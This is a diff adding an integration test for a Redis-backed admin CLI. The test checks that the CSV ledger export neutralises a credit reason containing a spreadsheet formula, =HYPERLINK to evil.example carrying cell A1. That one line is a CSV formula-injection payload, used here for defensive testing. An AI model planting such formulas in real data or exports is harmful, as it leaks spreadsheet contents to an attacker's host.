@@ -15,6 +15,7 @@ import Database from 'better-sqlite3';
 import { build } from 'esbuild';
 import { Redis } from 'ioredis';
 import { afterAll, describe, expect, it } from 'vitest';
+import { createRedisStores } from '../../src/stores/redis/index.js';
 import { writeConfig } from '../helpers/processes.js';
 import { REDIS_URL, deleteKeysWithPrefix, redisProblem } from '../../bench/redis-util.js';
 
@@ -126,6 +127,19 @@ describe.runIf(redisUp || process.env.CI === 'true')('admin commands on Redis', 
     expect(await disabled()).toBe(true);
     expect(json(await cli('keys', 'enable', '--config', config, '--id', created.id))).toEqual({ enabled: created.id });
     expect(await disabled()).toBe(false);
+
+    // A credit reason with a formula comes out of the CSV export as text, its cost a number.
+    const stores = createRedisStores({ url: REDIS_URL, keyPrefix: prefix });
+    try {
+      await stores.billing.credit({ accountId: 'acme', creditId: 'cr_formula', amount: 250_000_000n, reason: '=HYPERLINK("http://evil.example/?"&A1,"x")', at: Date.now() });
+    } finally {
+      await stores.close();
+    }
+    const csv = await cli('ledger', '--config', config, '--account', 'acme', '--format', 'csv');
+    expect(csv.code, csv.stderr).toBe(0);
+    const row = csv.stdout.split('\n').find((l) => l.includes('cr_formula'));
+    expect(row).toMatch(/,-0\.25,.*,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""x""\)"$/);
+    expect(csv.stdout).not.toMatch(/(^|,)=/m);
 
     const missing = await cli('keys', 'enable', '--config', config, '--id', 'key_nope');
     expectClearError(missing, /^No key "key_nope"\./);
